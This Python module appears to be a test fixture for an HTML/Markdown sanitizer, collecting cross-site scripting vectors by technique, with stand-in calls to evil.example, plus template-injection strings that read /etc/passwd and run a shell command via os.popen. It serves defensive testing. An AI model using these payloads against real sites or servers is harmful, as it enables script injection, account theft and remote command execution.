"""Texts that inject scripts, by technique, after the collections of OWASP and PortSwigger.

Each calls `run()`, whose calls the tests record, or sends a request to `evil.example`.
"""

from __future__ import annotations

from typing import Final

_SRC: Final = "https://evil.example/x"

_ELEMENTS: Final = (
    "<script>run()</script>",
    f"<script src={_SRC}.js></script>",
    "<ScRiPt>run()</sCrIpT>",
    "<scr<script>ipt>run()</scr</script>ipt>",
    "<<script>run();//<</script>",
    "<script\n>run()</script\n>",
    "<script/x>run()</script>",
    "<svg><script>run()</script></svg>",
    "<svg><script href=data:,run()></script></svg>",
    "<math><mi><script>run()</script></mi></math>",
    f"<iframe src={_SRC}></iframe>",
    "<iframe srcdoc='<script>parent.run()</script>'></iframe>",
    "<iframe src=javascript:parent.run()></iframe>",
    f"<object data={_SRC}.swf></object>",
    "<object data=javascript:run()></object>",
    "<embed src=javascript:run()>",
    f"<base href={_SRC}/>",
    f"<link rel=stylesheet href={_SRC}.css>",
    "<meta http-equiv=refresh content='0;url=javascript:run()'>",
    f"<meta http-equiv=refresh content='0;url={_SRC}'>",
    f"<form action={_SRC}><button>go</button></form>",
    "<form><button formaction=javascript:run()>go</button></form>",
    "<isindex type=image src=1 onerror=run()>",
    "<template><script>run()</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=run()>'></noscript>",
    "<xmp><p title='</xmp><img src=x onerror=run()>'></xmp>",
    "<style>@import '" + _SRC + ".css';</style>",
    "<style>*{background:url(" + _SRC + ")}</style>",
    "<textarea><script>run()</script></textarea>",
    "<title></title><script>run()</script>",
    f"<img src={_SRC}.png>",
    f"<img srcset='{_SRC}.png 2x'>",
    f"<picture><source srcset={_SRC}.png><img></picture>",
    f"<video src={_SRC}.mp4 autoplay></video>",
    f"<video poster={_SRC}.png></video>",
    f"<audio src={_SRC}.mp3 autoplay></audio>",
    f"<input type=image src={_SRC}.png>",
    f"<table background={_SRC}.png><td>x</table>",
    f"<svg><image href={_SRC}.png /></svg>",
    f"<svg><use href={_SRC}.svg#x /></svg>",
    f"<div style='background:url({_SRC})'>x</div>",
    f"<p style=\"background-image:url('{_SRC}')\">x</p>",
)
"""Elements that run a script or load a file."""

_HANDLERS: Final = (
    "<img src=x onerror=run()>",
    "<img src=x:x onerror=run()//",
    "<img/src/onerror=run()>",
    "<img src='x'onerror='run()'>",
    "<img src=x onerror&#61;run()>",
    "<img src=x oNeRrOr=run()>",
    "<img src=x on\nerror=run()>",
    "<img \0src=x \0onerror=run()>",
    "<img src=`x`onerror=run()>",
    '<IMG """><img src=x onerror=run()>">',
    "<svg onload=run()>",
    "<svg/onload=run()>",
    "<svg><animate onbegin=run() attributeName=x dur=1s>",
    "<svg><a><animate attributeName=href values=javascript:run() /><text y=20>x</text></a></svg>",
    "<svg><set attributeName=href to=javascript:run() /></svg>",
    "<body onload=run()>",
    "<body onpageshow=run()>",
    "<details open ontoggle=run()>x</details>",
    "<video><source onerror=run()></video>",
    "<audio src onerror=run()></audio>",
    "<input autofocus onfocus=run()>",
    "<select autofocus onfocus=run()></select>",
    "<marquee onstart=run()>x</marquee>",
    "<a id=x tabindex=1 onfocus=run() autofocus>x</a>",
    "<div onpointerover=run() onmouseover=run()>x</div>",
    "<p onanimationstart=run() style='animation:x 1s'>x</p>",
    "<b contenteditable autofocus onfocusin=run()>x</b>",
    "<xss onfocus=run() autofocus tabindex=1>x</xss>",
    "<math href=javascript:run()>x</math>",
)
"""Handlers of events, with and without user interaction."""

_ADDRESSES: Final = (
    "javascript:run()",
    "JaVaScRiPt:run()",
    " javascript:run()",
    "\x01javascript:run()",
    "java\tscript:run()",
    "java\nscript:run()",
    "javascript&colon;run()",
    "&#106;avascript:run()",
    "&#x6A&#x61vascript:run()",
    "javascript://evil.example/%0Arun()",
    "javascript:/*--></title></style></textarea></script></xmp>*/run()",
    "vbscript:run()",
    "data:text/html,<script>parent.run()</script>",
    "data:text/html;base64,PHNjcmlwdD5ydW4oKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='run()'/>",
    'https://a.example/"onmouseover="run()',
    "https://a.example/'onmouseover='run()",
    "https://a.example/><script>run()</script>",
    "//evil.example/x.js",
    'files/"><script>run()</script>',
)
"""Addresses."""

_BREAKOUTS: Final = (
    '"><script>run()</script>',
    "'><script>run()</script>",
    '" autofocus onfocus=run() x="',
    "' autofocus onfocus=run() x='",
    "` autofocus onfocus=run() x=`",
    "--><script>run()</script><!--",
    "]]><script>run()</script>",
    "</title><script>run()</script>",
    "</textarea><script>run()</script>",
    "</script><script>run()</script>",
    "</style><script>run()</script>",
    "</h1></main></body><script>run()</script>",
    '\\"><script>run()</script>',
    "&lt;script&gt;run()&lt;/script&gt;",
    "&#60;script&#62;run()&#60;/script&#62;",
    "%3Cscript%3Erun()%3C/script%3E",
    "\\u003cscript\\u003erun()\\u003c/script\\u003e",
    "+ADw-script+AD4-run()+ADw-/script+AD4-",
    "\ufeff<script>run()</script>",
    "\uff1cscript\uff1erun()\uff1c/script\uff1e",
)
"""Texts that close an attribute, a comment or a raw text element, or use another encoding."""

_MARKDOWN: Final = (
    "[x](javascript:run())",
    "[x](<javascript:run()>)",
    "[x](java&Tab;script:run())",
    "[x]( javascript:run() 'y')",
    "[x](data:text/html,<script>run()</script>)",
    "[x][1]\n\n[1]: javascript:run()",
    "<javascript:run()>",
    '![x" onerror="run()](x.example/y.png)',
    f"![x]({_SRC}.png)",
    "![x](javascript:run())",
    "[![x](y.png)](javascript:run())",
    '[x](y "z\\" onmouseover=\\"run()")',
    '```"onload="run()\nx\n```',
    "x{onclick=run()}",
    "[x](#){onclick=run() href=javascript:run()}",
    "# x {#y onmouseover=run()}",
    "[^1]\n\n[^1]: <img src=x onerror=run()>",
    "<a href=\"#\" title=\"<img src='photo.jpg' alt='x onmouseover=run() y'>\">x</a>",
    "<a href='jav&#x0A;ascript:run()'>x</a>",
    '<a href="&#14; javascript:run()">x</a>',
    "<a href=//evil.example ping=//evil.example>x</a>",
    "<details><summary>x</summary><img src=x onerror=run()></details>",
)
"""Markdown, also with HTML."""

_MATHEMATICS: Final = (
    "$\\href{javascript:run()}{x}$",
    "$\\text{<img src=x onerror=run()>}$",
    "$<script>run()</script>$",
    "$\\style{x:expression(run())}{y}$",
    '$\\class{"onmouseover=run()}{x}$',
    "\\href{javascript:run()}{x}",
    "\\url{javascript:run()}",
    "<math><annotation-xml encoding=text/html><img src=x onerror=run()></annotation-xml></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=run()></style></mglyph></table></mtext></math>",
    '<svg></p><style><a id="</style><img src=x onerror=run()>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=run()>",
)
"""LaTeX, MathML, and markup whose meaning changes when it is parsed again."""

_TEMPLATES: Final = (
    "{{ 7*7 }}{{ self.__init__.__globals__ }}",
    "{% include '/etc/passwd' %}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "${run()}",
    "#{run()}",
    "<%= run() %>",
)
"""Template languages."""

VECTORS: Final = (
    *_ELEMENTS,
    *_HANDLERS,
    *_ADDRESSES,
    *_BREAKOUTS,
    *_MARKDOWN,
    *_MATHEMATICS,
    *_TEMPLATES,
)
